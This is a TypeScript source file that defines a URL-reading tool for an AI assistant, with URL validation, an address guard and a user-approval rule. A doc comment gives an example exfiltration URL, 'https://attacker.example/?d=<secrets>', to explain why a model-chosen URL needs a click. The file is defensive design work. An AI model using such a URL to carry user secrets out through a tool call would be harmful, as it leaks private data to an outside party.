import { z } from "zod";
import type { Tool } from "../core/ports/tool.js";

/**
 * Reads a web page as clean text. The composition root passes a document loader of its own here
 * (`(url, signal) => loader.load({ kind: "url", url }, signal)`), with the same address guard (no
 * private, loopback or metadata addresses), size and time limits and content-type checks as
 * indexing, but without the private hosts admins allowed for indexing. Kept as a bare function type
 * so this tool depends on no loader implementation.
 */
export type FetchDocument = (url: string, signal: AbortSignal) => Promise<{ title: string; text: string }>;

const input = z.object({
  url: z
    .string()
    .trim()
    .url()
    .refine((value) => /^https?:\/\//i.test(value), "only http and https URLs can be read")
    .describe("The http(s) URL of the page to read."),
});

/** Links as people type them, also inside Slack's `<url>` and `<url|label>` forms. */
const TYPED_LINK = /https?:\/\/[^\s<>|"'`]+/gi;
const TRAILING_PUNCTUATION = /[.,;:!?)\]}]+$/;

function normalized(url: string): string | undefined {
  try {
    return new URL(url).href;
  } catch {
    return undefined;
  }
}

/** Whether `url` is, exactly, a link in `text` (ignoring sentence punctuation right after it). */
function isTypedLink(url: string, text: string): boolean {
  const wanted = normalized(url);
  if (wanted === undefined) return false;
  for (const [link] of text.matchAll(TYPED_LINK)) {
    for (const candidate of [link, link.replace(TRAILING_PUNCTUATION, "")]) {
      if (normalized(candidate) === wanted) return true;
    }
  }
  return false;
}

/**
 * `fetch_url`: reads a page and returns its title and text (capped in tokens by the registry). Risk
 * `network`: the URL is the model's choice, and a URL is all it takes to carry data out
 * (`https://attacker.example/?d=<secrets>`), so a call needs a click unless the asker typed that
 * exact URL in their own message.
 */
export function createFetchUrlTool(fetchDocument: FetchDocument): Tool<z.output<typeof input>> {
  return {
    name: "fetch_url",
    description:
      "Read a public web page and return its text. Use it when someone shares a link or asks about a page. " +
      "It only reads; it cannot submit forms or log in.",
    inputSchema: input,
    risk: "network",
    requestedByAsker: ({ url }, askerText) => isTypedLink(url, askerText),
    timeoutMs: 30_000,
    maxOutputTokens: 3_000,
    activity: "Reading the page…",
    async execute({ url }, context) {
      const document = await fetchDocument(url, context.signal);
      return `${document.title} (${url})\n\n${document.text}`;
    },
  };
}
